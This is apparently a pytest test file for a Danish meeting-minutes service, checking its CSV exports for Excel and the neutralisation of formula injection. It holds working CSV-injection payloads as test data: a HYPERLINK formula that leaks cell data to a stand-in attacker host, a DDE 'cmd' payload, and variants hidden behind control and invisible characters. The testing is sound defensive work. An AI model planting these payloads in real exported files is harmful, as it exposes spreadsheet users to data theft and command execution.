"""CSV for Danish Excel (BOM, semicolons), formula neutralisation, JSON twin."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import unicodedata
from collections.abc import Callable
from datetime import datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from server.minutes.csv import (
    BOM,
    actions_csv,
    decisions_csv,
    neutralise,
    to_json,
    write_csv,
)
from server.minutes.csv import cell as csv_cell
from server.minutes.model import PLAN_FIELDS, Action, Decision, DevelopmentPlan, Minutes, PlanRow
from server.minutes.plan import plan_csv
from server.minutes.text import clean
from server.privacy.audit import to_csv as audit_csv
from server.store.tables import AuditLog


def rows_of(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM.encode("utf-8"))
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_decisions_csv(kvifa: Minutes) -> None:
    data = decisions_csv(kvifa)
    assert data[:3] == b"\xef\xbb\xbf"
    rows = rows_of(data)
    assert rows[0] == ["Nr.", "Beslutning", "Besluttet af", "Punkt", "Redigeret", "Referat", "Dato"]
    assert rows[1][1].startswith("Sagsejer indkalder til netværksmøde")
    assert rows[2][4] == "ja" and rows[1][4] == "nej"
    assert rows[1][5:] == ["Faglig sparring om Sag 17", "2025-03-04"]
    assert b"\r\n" in data


def test_actions_csv(kvifa: Minutes) -> None:
    rows = rows_of(actions_csv(kvifa))
    assert rows[0][:4] == ["Nr.", "Handling", "Ansvarlig", "Frist"]
    assert rows[1][:4] == [
        "1",
        "Indkalde til netværksmøde med skole og PPR",
        "Mette Søgaard",
        "2025-03-18",
    ]
    assert rows[3][2] == "Jørgen Ålund"


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],
)
def test_formula_cells_are_neutralised(kvifa: Minutes, payload: str) -> None:
    minutes = dataclasses.replace(
        kvifa,
        decisions=(Decision(payload, decided_by=payload, step_title=payload),),
        actions=(Action(payload, who=payload),),
    )
    for data in (decisions_csv(minutes), actions_csv(minutes)):
        for row in rows_of(data)[1:]:
            for cell in row[1:4]:
                if cell:
                    assert cell.startswith("'"), cell
    assert neutralise(payload).startswith("'")


def test_harmless_cells_are_untouched() -> None:
    for cell in ("Sag 17", "Børn & Unge", "2025-03-18", "1", "", "a=b", "e-mail"):
        assert neutralise(cell) == cell


def test_write_csv_quotes_semicolons_and_newlines() -> None:
    rows = rows_of(write_csv(["a", "b"], [["x;y", "linje 1\nlinje 2"]]))
    assert rows == [["a", "b"], ["x;y", "linje 1\nlinje 2"]]


def test_json_twin(workshop: Minutes) -> None:
    data = json.loads(to_json(workshop))
    assert data["date"] == "2025-05-20"
    assert data["session_type"] == "implementation"
    assert [d["text"] for d in data["decisions"]][
        3
    ] == "Planen forelægges styregruppen den 12. juni."
    assert data["decisions"][2]["edited"] is True
    assert data["actions"][3] == {
        "what": "Planlægge temadag om barnets perspektiv",
        "who": "Bjørn Kæmpe",
        "due": None,
    }
    assert "ø" in to_json(workshop)  # not \u00f8-escaped


# -- the guard, whatever comes before the formula --------------------------------------------------

# What a spreadsheet may take as the start of a formula (ASCII, full-width, small, minus sign).
FORMULA_SIGNS = set("=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212")

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"klik")'
LEADING = [
    # control characters (stripped by the cleaning, which used to run after the check)
    "\x01",
    "\x00",
    "\x1b",
    "\x7f",
    "\x9b",
    "\x01\x02\x03",
    "\x0b",
    "\x0c",
    # tab, carriage return, line feed
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\t\r\n",
    # whitespace, also wide and no-break
    " ",
    "   ",
    " \t ",
    "\u00a0",
    "\u2003",
    "\u3000",
    # invisible format characters
    "\u200b",
    "\ufeff",
    "\u202e",
    "\u00ad",
    "\u2060",
    # mixed
    "\x01 \t\u200b\r",
]
FORMULAS = [
    HYPERLINK,
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff0d2+3",  # full-width -
    "\uff20SUM(A1)",  # full-width @
    "\ufe661+1",  # small =
    "\u22122+3",  # minus sign
]
PAYLOADS = [lead + formula for lead in LEADING for formula in (HYPERLINK, "@SUM(A1)")] + [
    lead + formula for lead in ("", "\x01", "\t", "\r", " ") for formula in FORMULAS
]


def live_formula(value: str) -> bool:
    """Would a spreadsheet see a formula (or a TAB/CR/LF-led cell) here? Apostrophe = text."""
    if value[:1] in ("\t", "\r", "\n"):
        return True
    for char in value:
        if char.isspace() or unicodedata.category(char) in ("Cc", "Cf", "Zs", "Zl", "Zp"):
            continue
        return char in FORMULA_SIGNS
    return False


def _minutes_with(kvifa: Minutes, text: str) -> Minutes:
    return dataclasses.replace(
        kvifa,
        title=text,
        decisions=(Decision(text, decided_by=text, step_title=text),),
        actions=(Action(text, who=text),),
    )


def _plan_with(text: str) -> DevelopmentPlan:
    row = PlanRow(text, owner=text, **dict.fromkeys(PLAN_FIELDS, text))
    return DevelopmentPlan(title=text, rows=(row,))


def _audit_with(text: str) -> bytes:
    entry = AuditLog(
        id=1,
        at=datetime(2025, 3, 4, 9, 0),
        actor=text,
        action=text,
        target=text,
        engagement_id=text,
    )
    return audit_csv([entry])


# Every CSV the service writes, with hostile text in every text cell it has.
PRODUCERS: dict[str, Callable[[Minutes, str], bytes]] = {
    "decisions.csv": lambda kvifa, text: decisions_csv(_minutes_with(kvifa, text)),
    "actions.csv": lambda kvifa, text: actions_csv(_minutes_with(kvifa, text)),
    "plan.csv": lambda kvifa, text: plan_csv(_plan_with(text)),
    "audit.csv": lambda kvifa, text: _audit_with(text),
}


@pytest.mark.parametrize("name", sorted(PRODUCERS))
def test_no_csv_lets_a_formula_through(kvifa: Minutes, name: str) -> None:
    """Cleaned first, neutralised after: no leading character can hide a formula."""
    problems = []
    for payload in PAYLOADS:
        rows = rows_of(PRODUCERS[name](kvifa, payload))
        carried = [value for row in rows[1:] for value in row if value.startswith("'")]
        if not carried:
            problems.append(f"{payload!a}: not in the file")
        live = [value for row in rows for value in row if live_formula(value)]
        if live:
            problems.append(f"{payload!a}: live formula {live[0]!a}")
        if any(value[1:] != clean(payload) for value in carried):
            problems.append(f"{payload!a}: the text was not kept as text")
    assert not problems, f"{name}:\n" + "\n".join(problems)


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_cell_cleans_then_neutralises(payload: str) -> None:
    out = csv_cell(payload)
    assert out == "'" + clean(payload)
    assert not live_formula(out)
    assert neutralise(payload).startswith("'")  # also safe on uncleaned text


def test_a_control_character_in_front_no_longer_hides_the_formula() -> None:
    """The review's case: cleaning after the check used to leave "=HYPERLINK(...)"."""
    payload = "\x01" + HYPERLINK
    assert clean(payload) == HYPERLINK  # what the cleaning does to it
    assert csv_cell(payload) == "'" + HYPERLINK
    assert rows_of(write_csv(["a"], [[payload]]))[1] == ["'" + HYPERLINK]


@pytest.mark.parametrize(
    "harmless",
    ["Sag 17", "Børn & Unge", "2025-03-18", "1", "", "a=b", "e-mail", "– ring til skolen", "'=1"],
)
def test_text_that_is_no_formula_is_written_as_it_is(harmless: str) -> None:
    assert csv_cell(harmless) == harmless
    assert rows_of(write_csv(["a"], [[harmless]]))[1] == [harmless]


@settings(max_examples=300)
@given(
    st.lists(
        st.text(
            alphabet=st.sampled_from(
                [
                    *("\x00", "\x01", "\x1f", "\x7f", "\x85", "\t", "\r", "\n", " ", "\u00a0"),
                    *("\u200b", "\ufeff", "\u2028", "=", "+", "-", "@", "\uff1d", "x", "1", "'"),
                ]
            ),
            max_size=8,
        ),
        min_size=1,
        max_size=4,
    )
)
def test_no_cell_of_any_shape_reads_as_a_formula(row: list[str]) -> None:
    for value in rows_of(write_csv(["a"], [row]))[1]:
        assert not live_formula(value), ascii(value)
